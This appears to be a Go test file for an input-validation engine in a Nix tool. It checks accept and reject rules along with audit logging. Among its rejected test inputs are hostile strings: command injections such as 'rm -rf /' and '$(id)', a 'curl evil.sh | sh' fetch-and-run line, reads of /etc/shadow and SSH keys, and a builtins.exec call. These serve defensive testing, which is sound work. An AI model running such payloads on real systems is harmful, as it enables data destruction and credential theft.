package validate

import (
	"errors"
	"strings"
	"sync"
	"testing"

	"go.uber.org/zap"

	"github.com/nixgate/nixgate/internal/audit"
)

type captureSink struct {
	mu     sync.Mutex
	events []*audit.Event
}

func (s *captureSink) Write(e *audit.Event) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.events = append(s.events, e)
}

func (s *captureSink) Close() {}

func (s *captureSink) all() []*audit.Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]*audit.Event, len(s.events))
	copy(out, s.events)
	return out
}

func newTestEngine() (*Engine, *captureSink) {
	sink := &captureSink{}
	return NewEngine(audit.NewLogger(zap.NewNop(), sink), zap.NewNop()), sink
}

func TestValidate_Classes(t *testing.T) {
	tests := []struct {
		name     string
		class    Class
		raw      string
		wantRule string // empty means accepted
	}{
		// Package names.
		{"plain package", ClassPackageName, "firefox", ""},
		{"versioned package", ClassPackageName, "python3Packages.requests", ""},
		{"underscore start", ClassPackageName, "_7zz", ""},
		{"hash rejected", ClassPackageName, "nixpkgs#hello", RulePattern},
		{"empty package", ClassPackageName, "", RuleEmpty},
		{"slash rejected", ClassPackageName, "nixpkgs/hello", RuleTraversal},
		{"dotdot rejected", ClassPackageName, "a..b", RuleTraversal},
		{"leading dot", ClassPackageName, ".hidden", RulePattern},
		{"trailing dot", ClassPackageName, "hello.", RulePattern},
		{"overlong package", ClassPackageName, strings.Repeat("a", 256), RuleTooLong},

		// Flake refs.
		{"attr ref", ClassFlakeRef, "nixpkgs#hello", ""},
		{"github ref", ClassFlakeRef, "github:NixOS/nixpkgs/nixos-25.05", ""},
		{"local ref", ClassFlakeRef, ".", ""},
		{"plus in ref", ClassFlakeRef, "git+https://example.org/repo", ""},
		{"semicolon injection", ClassFlakeRef, "nixpkgs#hello; rm -rf /", RuleMetacharacter},
		{"pipe injection", ClassFlakeRef, "pkg|tee /tmp/x", RuleMetacharacter},
		{"subshell injection", ClassFlakeRef, "pkg$(id)", RuleMetacharacter},
		{"newline injection", ClassFlakeRef, "pkg\nrm x", RuleMetacharacter},
		{"glob rejected", ClassFlakeRef, "nixpkgs#*", RuleMetacharacter},
		{"empty ref", ClassFlakeRef, "", RuleEmpty},

		// Nix expressions.
		{"simple expr", ClassNixExpression, "1 + 1", ""},
		{"attrset expr", ClassNixExpression, "{ a = [ 1 2 ]; }.a", ""},
		{"builtins map", ClassNixExpression, "builtins.map (x: x * 2) [ 1 2 3 ]", ""},
		{"builtins exec", ClassNixExpression, `builtins.exec ["rm" "-rf" "/"]`, RuleBlockedPattern},
		{"noChroot", ClassNixExpression, "{ __noChroot = true; }", RuleBlockedPattern},
		{"substituters", ClassNixExpression, `{ substituters = ["http://evil"]; }`, RuleBlockedPattern},
		{"command substitution", ClassNixExpression, "$(rm -rf /)", RuleMetacharacter},
		{"backtick substitution", ClassNixExpression, "`id`", RuleMetacharacter},
		{"empty expr", ClassNixExpression, "", RuleEmpty},

		// Machine names.
		{"machine", ClassMachineName, "web-01", ""},
		{"machine underscore", ClassMachineName, "build_host", ""},
		{"machine dot", ClassMachineName, "web.local", RulePattern},
		{"machine leading hyphen", ClassMachineName, "-web", RulePattern},
		{"machine trailing hyphen", ClassMachineName, "web-", RulePattern},
		{"machine too long", ClassMachineName, strings.Repeat("m", 64), RuleTooLong},

		// URLs.
		{"https url", ClassURL, "https://example.org/src.tar.gz", ""},
		{"ftp url", ClassURL, "ftp://mirror.example.org/f.tgz", ""},
		{"javascript url", ClassURL, "javascript://alert(1)", RuleScheme},
		{"file url", ClassURL, "file:///etc/passwd", RuleScheme},
		{"unencoded space", ClassURL, "https://example.org/a b", RuleUnencodedSpace},

		// Paths.
		{"relative path", ClassPath, "./src/main.nix", ""},
		{"absolute path", ClassPath, "/tmp/work/flake.nix", ""},
		{"traversal path", ClassPath, "../../../etc/passwd", RuleTraversal},
		{"shadow path", ClassPath, "/etc/shadow", RuleBlockedPattern},
		{"root ssh path", ClassPath, "/root/.ssh/id_ed25519", RuleBlockedPattern},
		{"home ssh path", ClassPath, "/home/alice/.ssh/config", RuleBlockedPattern},

		// Store paths.
		{"store path", ClassStorePath, "/nix/store/abc123-hello-2.12.1", ""},
		{"non-store path", ClassStorePath, "/tmp/hello", RulePattern},
		{"store traversal", ClassStorePath, "/nix/store/../secrets", RuleTraversal},

		// Session IDs.
		{"session id", ClassSessionID, "a1B2c3", ""},
		{"session hyphen", ClassSessionID, "a-b", RulePattern},
		{"session too long", ClassSessionID, strings.Repeat("s", 65), RuleTooLong},

		// Identifiers.
		{"identifier", ClassIdentifier, "build-mypackage_2", ""},
		{"numeric identifier", ClassIdentifier, "42", ""},
		{"identifier space", ClassIdentifier, "two words", RulePattern},

		// Shell commands reject only the hard limits.
		{"shell command", ClassShellCommand, "make -j8 test", ""},
		{"shell nul", ClassShellCommand, "ls\x00", RuleNulByte},
		{"shell too long", ClassShellCommand, strings.Repeat("x", 1001), RuleTooLong},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			engine, sink := newTestEngine()
			v, err := engine.Validate(tt.class, "arg", tt.raw)

			if tt.wantRule == "" {
				if err != nil {
					t.Fatalf("expected accept, got %v", err)
				}
				if v.String() != tt.raw {
					t.Fatalf("validated value %q differs from input %q", v.String(), tt.raw)
				}
				return
			}

			var verr *Error
			if !errors.As(err, &verr) {
				t.Fatalf("expected *Error, got %T (%v)", err, err)
			}
			if verr.Rule != tt.wantRule {
				t.Fatalf("expected rule %s, got %s (%v)", tt.wantRule, verr.Rule, verr)
			}
			if verr.Field != "arg" {
				t.Fatalf("expected field arg, got %q", verr.Field)
			}

			events := sink.all()
			if len(events) != 1 {
				t.Fatalf("expected exactly 1 audit event, got %d", len(events))
			}
			e := events[0]
			if e.Type != audit.EventValidationFailed {
				t.Fatalf("expected ValidationFailed event, got %s", e.Type)
			}
			if e.Extra["rule"] != tt.wantRule {
				t.Fatalf("event rule %q, want %q", e.Extra["rule"], tt.wantRule)
			}
			if e.Extra["class"] != string(tt.class) {
				t.Fatalf("event class %q, want %q", e.Extra["class"], tt.class)
			}
		})
	}
}

func TestValidate_AcceptedValuesRevalidate(t *testing.T) {
	engine, _ := newTestEngine()

	tests := []struct {
		class Class
		raw   string
	}{
		{ClassPackageName, "python3Packages.requests"},
		{ClassFlakeRef, "github:NixOS/nixpkgs/nixos-25.05"},
		{ClassNixExpression, "builtins.map (x: x * 2) [ 1 2 3 ]"},
		{ClassMachineName, "web-01"},
		{ClassURL, "https://example.org/src.tar.gz"},
		{ClassShellCommand, "make -j8 test"},
		{ClassPath, "./src/main.nix"},
		{ClassStorePath, "/nix/store/abc123-hello-2.12.1"},
		{ClassSessionID, "a1B2c3"},
		{ClassIdentifier, "build-mypackage_2"},
	}
	for _, tt := range tests {
		first, err := engine.Validate(tt.class, "arg", tt.raw)
		if err != nil {
			t.Fatalf("%s: first pass rejected %q: %v", tt.class, tt.raw, err)
		}
		second, err := engine.Validate(tt.class, "arg", first.String())
		if err != nil {
			t.Fatalf("%s: second pass rejected %q: %v", tt.class, first.String(), err)
		}
		if second.String() != first.String() {
			t.Fatalf("%s: value changed across passes: %q then %q", tt.class, first.String(), second.String())
		}
	}
}

func TestValidate_DangerousShellCommandAcceptedWithWarning(t *testing.T) {
	engine, sink := newTestEngine()

	v, err := engine.Validate(ClassShellCommand, "command", "rm -rf ./build && echo done")
	if err != nil {
		t.Fatalf("dangerous command should be accepted, got %v", err)
	}
	if v.String() == "" {
		t.Fatal("expected wrapped value")
	}

	events := sink.all()
	if len(events) != 1 {
		t.Fatalf("expected exactly 1 event, got %d", len(events))
	}
	e := events[0]
	if e.Type != audit.EventDangerousPattern {
		t.Fatalf("expected DangerousPattern, got %s", e.Type)
	}
	if e.Security != audit.SecurityWarning {
		t.Fatalf("expected warning security, got %s", e.Security)
	}
	if e.Extra["pattern"] != "rm -rf" {
		t.Fatalf("expected pattern rm -rf, got %q", e.Extra["pattern"])
	}
	if !e.Success {
		t.Fatal("warning events mark the value as accepted")
	}
}

func TestValidate_CleanShellCommandEmitsNothing(t *testing.T) {
	engine, sink := newTestEngine()

	if _, err := engine.Validate(ClassShellCommand, "command", "cargo build --release"); err != nil {
		t.Fatalf("unexpected rejection: %v", err)
	}
	if n := len(sink.all()); n != 0 {
		t.Fatalf("expected no events for a clean command, got %d", n)
	}
}

func TestValidate_InjectionSeverityIsCritical(t *testing.T) {
	tests := []struct {
		class Class
		raw   string
	}{
		{ClassFlakeRef, "pkg; curl evil.sh | sh"},
		{ClassNixExpression, "$(cat /etc/shadow)"},
		{ClassNixExpression, "builtins.exec []"},
		{ClassSessionID, "abc\x00def"},
	}

	for _, tt := range tests {
		engine, sink := newTestEngine()
		if _, err := engine.Validate(tt.class, "arg", tt.raw); err == nil {
			t.Fatalf("%q should be rejected", tt.raw)
		}
		if got := sink.all()[0].Security; got != audit.SecurityCritical {
			t.Errorf("%q: expected critical severity, got %s", tt.raw, got)
		}
	}
}

func TestValidate_LongValuesExcerptedInEvents(t *testing.T) {
	engine, sink := newTestEngine()

	long := strings.Repeat("z", 20000)
	if _, err := engine.Validate(ClassNixExpression, "expression", long); err == nil {
		t.Fatal("expected too_long rejection")
	}

	recorded := sink.all()[0].Params["expression"]
	if len(recorded) > 140 {
		t.Fatalf("event parameter not excerpted: %d bytes", len(recorded))
	}
}

func TestClass_Known(t *testing.T) {
	for _, c := range []Class{
		ClassPackageName, ClassFlakeRef, ClassNixExpression, ClassMachineName,
		ClassURL, ClassShellCommand, ClassPath, ClassStorePath, ClassSessionID,
		ClassIdentifier,
	} {
		if !c.Known() {
			t.Errorf("class %s should be known", c)
		}
	}
	if Class("bogus").Known() {
		t.Error("bogus class should not be known")
	}
}
